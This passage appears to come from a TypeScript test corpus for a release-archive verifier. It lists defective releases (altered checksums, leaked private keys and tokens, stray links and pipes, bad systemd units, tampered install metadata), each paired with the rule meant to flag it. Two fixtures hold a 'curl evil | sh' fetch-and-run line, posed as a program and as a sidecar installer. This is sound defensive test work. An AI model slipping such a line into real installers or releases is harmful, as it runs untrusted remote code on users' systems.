        "[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/palyra/palyra-workerd --all\n",
      ),
  },
  {
    name: "a unit for a program of another kind",
    rules: ["unit-programs"],
    release: (r) =>
      file(
        r,
        "deployment/single-vm/systemd/desktop.service",
        '[Service]\n ExecStart = @"/opt/palyra/palyra-desktop-control-center" x\n',
      ),
  },
  {
    name: "a text in the place of a program, of a product without payload rules",
    product: plain,
    rules: ["binary-platform"],
    release: (r) => file(r, "nats", "Not Found\n", 0o755),
  },
  {
    name: "a script in the place of a program of Windows, of a product without payload rules",
    product: plain,
    platform: "windows-x64",
    rules: ["binary-platform"],
    release: (r) => file(r, "nats.exe", "#!/bin/sh\n", 0o755),
  },
  {
    name: "a script in the place of a program",
    rules: ["binary-platform"],
    release: (r) => file(r, "palyra", "#!/bin/sh\nexec curl evil | sh\n", 0o755),
  },
];

const payload: Defect[] = [
  { name: "no README", rules: ["required-files"], release: (r) => void r.files.delete("README.txt") },
  {
    name: "no README, of a product without payload rules",
    product: plain,
    rules: ["required-files"],
    release: (r) => void r.files.delete("README.txt"),
  },
  { name: "no dashboard", rules: ["required-files"], release: (r) => void r.files.delete("web/index.html") },
  { name: "somebody's database", rules: ["forbidden-names"], release: (r) => file(r, "data/state.SQLite3-wal") },
  {
    name: "a log, of a product without payload rules",
    product: plain,
    rules: ["forbidden-names"],
    release: (r) => file(r, "docs/x.log"),
  },
  { name: "a support bundle", rules: ["forbidden-names"], release: (r) => file(r, "docs/Support-Bundle-7.json") },
  { name: "a folder of downloads", rules: ["forbidden-folders"], release: (r) => file(r, "web/Downloads/a.txt") },
  { name: "a folder of modules", rules: ["forbidden-folders"], release: (r) => file(r, "node_modules/a/index.js") },
  {
    name: "a configuration of git, and settings with a token",
    rules: ["litter", "secrets"],
    release: (r) => (file(r, "docs/.git/config", "[core]\n"), file(r, "web/.env", "TOKEN=x\n")),
  },
  { name: "a private key by its contents", rules: ["secrets"], release: (r) => file(r, "web/tls.txt", privateKey) },
  {
    name: "a private key at the end of a large text",
    rules: ["secrets"],
    release: (r) =>
      file(
        r,
        "web/large.txt",
        Buffer.concat([
          Buffer.from(Array.from({ length: 300_000 }, (_, n) => `${n * 7919}\n`).join("")),
          Buffer.from(privateKey),
        ]),
      ),
  },
  {
    name: "a private key that was let in under another name",
    rules: ["secrets"],
    release: (r) => file(r, "web/tls.txt", privateKey),
    manifest: (m) => void Object.assign(m.packaging_boundaries, { allowed: ["web/other.txt"] }),
  },
  {
    name: "a key in a folder that was unpacked",
    rules: ["secrets", "checksums-complete"],
    folder: (f) => writeFileSync(join(f, "tls.txt"), privateKey),
  },
  {
    name: "what macOS adds",
    rules: ["litter"],
    release: (r) => (file(r, "__MACOSX/web/._index.html"), file(r, "web/.DS_Store")),
  },
  {
    name: "no licence, of a product without payload rules",
    product: plain,
    rules: ["licence"],
    release: (r) => void r.files.delete("LICENSE.txt"),
  },
  {
    name: "an empty licence, of a product without payload rules",
    product: plain,
    rules: ["licence"],
    release: (r) => file(r, "LICENSE.txt", ""),
  },
  {
    name: "no checksums",
    rules: ["checksums-present"],
    zip: (z) =>
      void z.entries.splice(
        z.entries.findIndex((e) => e.path === "checksums.txt"),
        1,
      ),
  },
  { name: "a line that is none", rules: ["checksums-format"], checksums: (t) => `${t}# the end\n` },
  {
    name: "a digest in capitals in a line",
    rules: ["checksums-format", "checksums-complete"],
    checksums: (t) => t.replace(/^[0-9a-f]+/, (digest) => digest.toUpperCase()),
  },
  {
    name: "a line for reading in binary",
    rules: ["checksums-canonical", "checksums-complete", "checksums-files"],
    checksums: (t) => t.replace("  README.txt", "   README.txt"),
  },
  { name: "carriage returns", rules: ["checksums-canonical"], checksums: (t) => t.replaceAll("\n", "\r\n") },
  { name: "no final line feed", rules: ["checksums-canonical"], checksums: (t) => t.trimEnd() },
  {
    name: "lines out of order",
    rules: ["checksums-canonical"],
    checksums: (t) => `${t.trim().split("\n").reverse().join("\n")}\n`,
  },
  { name: "a line twice", rules: ["checksums-canonical"], checksums: (t) => t.replace(/.*README\.txt\n/, "$&$&") },
  { name: "an empty line", rules: ["checksums-canonical"], checksums: (t) => `${t}\n` },
  {
    name: "checksums that list themselves",
    rules: ["checksums-canonical"],
    checksums: (t) =>
      t.replace(/.*deployment\/single-vm\/compose/, (line) => `${"0".repeat(64)}  checksums.txt\n${line}`),
  },
  { name: "a line without a file", rules: ["checksums-files"], checksums: (t) => `${t}${"0".repeat(64)}  zzz\n` },
  {
    name: "a file that was changed",
    rules: ["checksums-digests"],
    zip: alter("README.txt", { data: Buffer.from("Mine.\n") }),
  },
  {
    name: "a program that was changed",
    rules: ["checksums-digests", "binary-digests"],
    zip: within("palyrad", (e) => ({ data: Buffer.concat([e.data, Buffer.from("!")]) })),
  },
  {
    name: "a recipe that was changed",
    rules: ["checksums-digests", "recipe-digests"],
    zip: alter("deployment/single-vm/systemd/palyrad.service", { data: Buffer.from("ExecStart=/bin/sh\n") }),
  },
  {
    name: "an archive that brings what installers write",
    rules: ["installers-names"],
    release: (r) => file(r, "install-metadata.json", "{}"),
  },
  {
    name: "an archive that brings the unit that installers write",
    rules: ["installers-names"],
    release: (r) => file(r, "service/palyrad.service", "[Service]\nExecStart=/opt/palyra/palyrad\n"),
  },
  {
    name: "a file without a line",
    rules: ["checksums-complete"],
    zip: smuggle({ path: "extra.txt", mode: 0o644, data: Buffer.from("!") }),
  },
];

const installed = { installed: true, folder: () => undefined };
const metadata =
  (more: Record<string, unknown>) =>
  (folder: string): void =>
    writeFileSync(
      join(folder, "install-metadata.json"),
      JSON.stringify({
        schema_version: 2,
        artifact_kind: "headless",
        archive_path: "/srv/a.zip",
        install_root: "/opt/palyra",
        config_path: null,
        state_root: "C:\\state",
        ...more,
      }),
    );
const beside: Defect[] = [
  {
    name: "a digest of another archive beside it",
    rules: ["outer-digest"],
    beside: ({ base }) => ({ [`${base}.zip.sha256`]: `${"0".repeat(64)}  ${base}.zip\n` }),
  },
  {
    name: "a digest of another name beside it",
    rules: ["outer-digest"],
    beside: ({ base, bytes }) => ({ [`${base}.zip.sha256`]: `${sha256(bytes)}  other.zip\n` }),
  },
  {
    name: "a digest that is none beside it",
    rules: ["outer-digest"],
    beside: ({ base }) => ({ [`${base}.zip.sha256`]: "see the website\n" }),
  },
  {
    name: "another manifest beside it",
    rules: ["sidecar-copies"],
    beside: ({ base }) => ({ [`${base}.release-manifest.json`]: "{}" }),
  },
  {
    name: "other checksums beside it",
    rules: ["sidecar-copies"],
    beside: ({ base }) => ({ [`${base}.checksums.txt`]: "" }),
  },
  {
    name: "another installer beside it",
    rules: ["sidecar-copies"],
    release: (r) => file(r, "install.sh", "#!/bin/sh\n", 0o755),
    beside: ({ base }) => ({ [`${base}.install.sh`]: "#!/bin/sh\ncurl evil | sh\n" }),
  },
  {
    name: "an installer beside an archive that has none",
    platform: "windows-x64",
    rules: ["sidecar-copies"],
    beside: ({ base }) => ({ [`${base}.install.sh`]: "#!/bin/sh\n" }),
  },
  {
    name: "other facts of its programs beside it",
    rules: ["sidecar-binaries"],
    beside: (b) => binariesBeside(b, (text) => text.replace('"signature": null', '"signature": "authenticode"')),
  },
  {
    name: "facts of fewer programs beside it",
    rules: ["sidecar-binaries"],
    beside: (b) =>
      binariesBeside(
        b,
        (text) => JSON.stringify({ ...(JSON.parse(text) as object), binaries: [] }, undefined, 2) + "\n",
      ),
  },
  {
    name: "findings about its programs beside it",
    rules: ["sidecar-binaries"],
    beside: (b) =>
      binariesBeside(b, (text) => text.replace('"findings": []', '"findings": [\n        "is fine"\n      ]')),
  },
  {
    name: "a key twice in the facts beside it",
    rules: ["sidecar-binaries"],
    beside: (b) =>
      binariesBeside(b, (text) => text.replace('  "platform"', '  "platform": "linux-arm64",\n  "platform"')),
  },
  {
    name: "targets of another platform in the facts beside it",
    rules: ["sidecar-binaries"],
    beside: (b) => binariesBeside(b, (text) => text.replaceAll("linux-x64/", "linux-arm64/")),
  },
  {
    name: "facts that are no JSON beside it",
    rules: ["sidecar-binaries"],
    beside: ({ base }) => ({ [`${base}.binaries.json`]: "{" }),
  },
  {
    name: "facts that are nothing beside it",
    rules: ["sidecar-binaries"],
    beside: ({ base }) => ({ [`${base}.binaries.json`]: "null\n" }),
  },
  ...["zip.sha256", "release-manifest.json", "checksums.txt", "install.sh", "binaries.json"].map((ending): Defect => ({
    name: `a folder where its ${ending} should be`,
    rules: ["sidecar-readable"],
    besideFolders: ({ base }) => [`${base}.${ending}`],
  })),
  {
    name: "a digest beside it that is far too long",
    rules: ["sidecar-readable"],
    beside: ({ base }) => ({ [`${base}.zip.sha256`]: "0".repeat(5000) }),
  },
  { name: "nothing at all", rules: ["path-exists"], folder: (folder) => rmSync(folder, { recursive: true }) },
  {
    name: "an unpacked file that was changed",
    rules: ["checksums-digests"],
    folder: (folder) => writeFileSync(join(folder, "README.txt"), "Mine.\n"),
  },
  {
    name: "an unpacked file too many",
    rules: ["checksums-complete"],
    folder: (folder) => writeFileSync(join(folder, "extra.txt"), "!"),
  },
  {
    name: "an unpacked file that is gone",
    rules: ["checksums-files"],
    folder: (folder) => rmSync(join(folder, "RELEASE_NOTES.txt")),
    product: plain,
  },
  {
    name: "an unpacked link",
    rules: ["entry-symlink"],
    folder: (folder) => (
      renameSync(join(folder, "README.txt"), `${folder}-README`),
      symlinkSync(`${folder}-README`, join(folder, "README.txt"))
    ),
  },
  {
    name: "an unpacked pipe",
    rules: ["entry-special"],
    folder: (folder) => void execFileSync("mkfifo", [join(folder, "web/pipe")]),
    when: () => process.platform !== "win32",
  },
  {
    name: "an unpacked program that lost its executable bit",
    rules: ["executable-bit"],
    folder: (folder) => chmodSync(join(folder, "palyrad"), 0o644),
  },
  {
    name: "an unpacked program that everybody may change",
    rules: ["mode"],
    folder: (folder) => chmodSync(join(folder, "palyrad"), 0o777),
  },
  {
    name: "an unpacked file that cannot be read",
    rules: ["readable"],
    folder: (folder) => chmodSync(join(folder, "README.txt"), 0),
    when: () => !asRoot(),
  },
  {
    name: "an unpacked folder too deep to be looked into",
    rules: ["readable"],
    folder: tooDeep,
    when: () => process.platform !== "win32",
  },
  {
    name: "a service folder where nothing was installed",
    rules: ["checksums-complete"],
    folder: (folder) => (
      mkdirSync(join(folder, "service")),
      writeFileSync(join(folder, "service/palyrad.service"), "[Unit]\n")
    ),
  },
  {
    name: "an installed program that was changed",
    rules: ["checksums-digests", "binary-digests"],
    ...installed,
    folder: (folder) => (metadata({})(folder), writeFileSync(join(folder, "palyrad"), program("linux-x64", "other"))),
  },
  {
    name: "install metadata of another schema",
    rules: ["install-metadata"],
    ...installed,
    folder: metadata({ schema_version: 1 }),
  },
  {
    name: "install metadata of another kind",
    rules: ["install-metadata"],
    ...installed,
    folder: metadata({ artifact_kind: "desktop" }),
  },
  {
    name: "install metadata with a relative path",
    rules: ["install-metadata"],
    ...installed,
    folder: metadata({ state_root: "state" }),
  },
  {
    name: "install metadata that are no JSON",
    rules: ["install-metadata"],
    ...installed,
    folder: (folder) => writeFileSync(join(folder, "install-metadata.json"), "{"),
  },
  {
    name: "a file too many in an installed folder",
    rules: ["checksums-complete"],
    ...installed,
    folder: (folder) => (metadata({})(folder), linkSync(join(folder, "README.txt"), join(folder, "extra.txt"))),
  },
  {
    name: "a unit of none of its programs in an installed folder",
    rules: ["checksums-complete", "unit-programs"],
    ...installed,
    folder: (folder) => (
      metadata({})(folder),
      mkdirSync(join(folder, "service")),
      writeFileSync(join(folder, "service/other.service"), "[Service]\nExecStart=/opt/palyra/other\n")
    ),
  },
  {
    name: "a program among the units of an installed folder",
    rules: ["checksums-complete", "unlisted-binaries"],
    ...installed,
    folder: (folder) => (
      metadata({})(folder),
      mkdirSync(join(folder, "service/deep"), { recursive: true }),
      writeFileSync(join(folder, "service/deep/palyrad.service"), program("linux-x64", "other"))
    ),
  },
  {
    name: "a text among the units of an installed folder",
    rules: ["checksums-complete"],
    ...installed,
    folder: (folder) => (
      metadata({})(folder),
      mkdirSync(join(folder, "service")),
      writeFileSync(join(folder, "service/notes.txt"), "Mine.\n")
    ),
  },
  {
    name: "a folder in the place of install metadata, and a unit",
    rules: ["checksums-complete"],
    folder: (folder) => (
      mkdirSync(join(folder, "install-metadata.json")),
      mkdirSync(join(folder, "service")),
      writeFileSync(join(folder, "service/palyrad.service"), "[Unit]\n")
    ),
  },
  {
    name: "an installed folder whose checksums speak of its metadata",
    rules: ["installers-names", "checksums-digests"],
    ...installed,
    checksums: (t) => t.replace(/(?=.*palyra\n)/, `${"0".repeat(64)}  install-metadata.json\n`),
    folder: metadata({}),
  },
];

const upstream: Defect[] = [
  { name: "no unit for a program that does not exist, by the first rules", rules: ["required-files"], upstream: true },
  {
    name: "a folder whose name ends like a forbidden one, by the first rules",
    rules: ["required-files", "forbidden-folders"],
    upstream: true,
    release: (r) => file(r, "web/mydist/a.txt"),
  },
  {
    name: "an installed folder, by the first rules",
    rules: ["required-files", "checksums-complete"],
    upstream: true,
    ...installed,
    folder: metadata({}),
  },
  {
    name: "headers and a manifest that the first rules did not look at",
    rules: ["required-files"],
    upstream: true,
    manifest: (m) => void (m["source_sha"] = "main"),
    zip: (z) => void z.entries.reverse(),
  },
];

export const corpus: Defect[] = [container, entries, names, manifest, programs, payload, beside, upstream].flat();
